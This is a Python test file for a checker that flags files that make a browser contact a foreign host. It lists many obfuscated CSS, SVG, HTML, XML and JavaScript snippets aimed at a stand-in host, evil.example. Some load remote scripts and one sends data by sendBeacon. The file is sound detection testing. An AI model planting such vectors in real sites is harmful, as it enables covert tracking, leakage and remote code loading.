"""Less usual ways in which a file makes a browser ask another host, or run something."""

from __future__ import annotations

from collections.abc import Callable

import pytest

Rules = Callable[..., list[str]]
Page = Callable[..., str]

SVG = '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink">'


@pytest.mark.parametrize(
    "style",
    [
        '@import"//evil.example/a.css";',
        "@import/**/'//evil.example/a.css';",
        r"a { background: u\rl('//evil.example/a.png') }",
        r"a { background: \75 \72 \6c(//evil.example/a.png) }",
        'a { background: image-set("a.png" 1x, "//evil.example/a.png" 2x) }',
        "a { background: -webkit-image-set(url(a.png) 1x, url(//evil.example/a.png) 2x) }",
        "a { background: image-set('//evil.example/a.png' type('image/png') 1x) }",
        "a { cursor: url( '//evil.example/a.png' ), auto }",
        "@font-face { src: src('//evil.example/a.woff') }",
        "a { background: url(//evil.example/a.png) /* never closed",
        "a { background: url('/\\\n/evil.example/a.png') }",
    ],
)
def test_in_a_style_sheet(style: str, rules: Rules) -> None:
    known = {"a.css": style, "a.png": b""}
    assert "request.foreign" in rules(known)


def test_a_style_sheet_with_its_own_files_is_fine(rules: Rules) -> None:
    style = "a { background: image-set('a.svg' 1x, url(b.svg) 2x) } /* https://evil.example/ */"
    assert rules({"a.css": style, "a.svg": "<svg/>", "b.svg": "<svg/>"}) == []


@pytest.mark.parametrize(
    "element",
    [
        '<p fill="url(//evil.example/a.svg#x)">',
        '<img attributionsrc="//evil.example/" src="a.svg">',
        '<img srcset="a.svg 1x, //evil.example/a.png 2x">',
        '<meta http-equiv="refresh" content="0; url=//evil.example/">',
        '<meta http-equiv="refresh" content="0;//evil.example/">',
        '<link rel="dns-prefetch" href="//evil.example/">',
        '<link rel="alternate preload" href="//evil.example/" as="image">',
        '<a ping="//evil.example/" href="index.html">x</a>',
        '<svg><image href="//evil.example/a.png"/></svg>',
        '<svg><use xlink:href="//evil.example/a.svg#x"/></svg>',
        "<svg><rect filter=\"url('//evil.example/a.svg#x')\"/></svg>",
        r'<svg><rect mask="u\72l(//evil.example/a.svg#x)"/></svg>',
        '<svg><image><set attributeName="href" to="//evil.example/a.png"/></image></svg>',
        '<svg><animate attributeName="href" values="a.png;//evil.example/a.png"/></svg>',
        '<video poster="//evil.example/a.png"></video>',
        '<input type="image" src="//evil.example/a.png">',
    ],
)
def test_in_a_page_or_a_drawing(element: str, rules: Rules, page: Page) -> None:
    assert "request.foreign" in rules({"a.html": page(element), "a.svg": "<svg/>"})
    assert "request.foreign" in rules({"b.svg": f"{SVG}{element}</svg>"})


@pytest.mark.parametrize(
    "script",
    [
        'import("//evil.example/a.js")',
        'import{a}from"//evil.example/a.js"',
        "import '//evil.example/a.js'",
        "fetch('\\x68ttps://evil.example/')",
        "fetch('\\u0068ttps:\\u002f\\u002fevil.example/')",
        "fetch(`https://${host}/`)",
        "fetch(' https://evil.example/')",
        "new SharedWorker('//evil.example/a.js')",
        "navigator.serviceWorker.register('//evil.example/a.js')",
        "new RTCPeerConnection({iceServers: [{urls: 'stun:evil.example:3478'}]})",
        "new WebTransport('https://evil.example:4433/')",
        "img.setAttribute('src', '//evil.example/a.png')",
        "location = 'https://evil.example/'",
        "location.assign('https://evil.example/')",
        "document.location.href = 'https://evil.example/'",
        "el.srcset='//evil.example/a.png 2x'",
        "importScripts('//evil.example/a.js')",
        "new EventSource('//evil.example/')",
        "navigator.sendBeacon('//evil.example/', data)",
    ],
)
def test_in_a_script(script: str, rules: Rules) -> None:
    assert rules({"a.js": script}) == ["request.foreign"]


@pytest.mark.parametrize(
    "script", ["a('/x/' + '//')", "// https://evil.example/", "s.replace('\\u00e4', 'a')"]
)
def test_other_slashes_in_a_script_are_fine(script: str, rules: Rules) -> None:
    assert rules({"a.js": script}) == []


@pytest.mark.parametrize(
    ("name", "text", "rule"),
    [
        ("a.svg", f"<?xml-stylesheet href='//evil.example/a.css'?>{SVG}</svg>", "request.foreign"),
        ("a.xml", "<?xml-stylesheet href='https&#58;//evil.example/'?><a/>", "request.foreign"),
        ("a.xml", "<!DOCTYPE a [<!ENTITY b 'c'>]><a>&b;</a>", "markup.element"),
        ("a.xml", "<!DOCTYPE a SYSTEM 'https://evil.example/a.dtd'><a/>", "markup.element"),
        ("a.svg", f"{SVG}<script href='a.js'/></svg>", "markup.element"),
        ("a.svg", f"{SVG}<svg:script xlink:href='a.js'/></svg>", "markup.element"),
        ("a.atom", "<a>&lt;img src='//evil.example/a.png'></a>", "request.foreign"),
        ("a.atom", "<a><![CDATA[<img src='//evil.example/a.png'>]]></a>", "request.foreign"),
        ("_headers", "/*\n  Link: <https://evil.example/a.js>; rel=preload\n", "request.foreign"),
        ("_headers", "/*\n  Content-Security-Policy: default-src https://evil.example\n", "*"),
        ("_redirects", "/* https://evil.example/:splat 301\n", "request.foreign"),
        ("a.webmanifest", '{"icons": [{"src": "https://evil.example/a.png"}]}', "*"),
        ("a.webmanifest", '{"start_url": "//evil.example/"}', "request.foreign"),
    ],
)
def test_outside_tags(name: str, text: str, rule: str, rules: Rules) -> None:
    assert ("request.foreign" if rule == "*" else rule) in rules({name: text, "a.js": ""})


def test_what_hosts_and_browsers_are_told_is_fine_if_it_stays_here(rules: Rules) -> None:
    files = {
        "_headers": "/*\n  Referrer-Policy: no-referrer\n  Link: <a.js>; rel=preload\n",
        "_redirects": "/old /new.html 301\n",
        "a.webmanifest": '{"name": "Papers", "start_url": "index.html"}',
        "a.atom": "<feed><entry>&lt;p>Words&lt;/p></entry></feed>",
        "a.js": "",
    }
    assert rules(files) == []
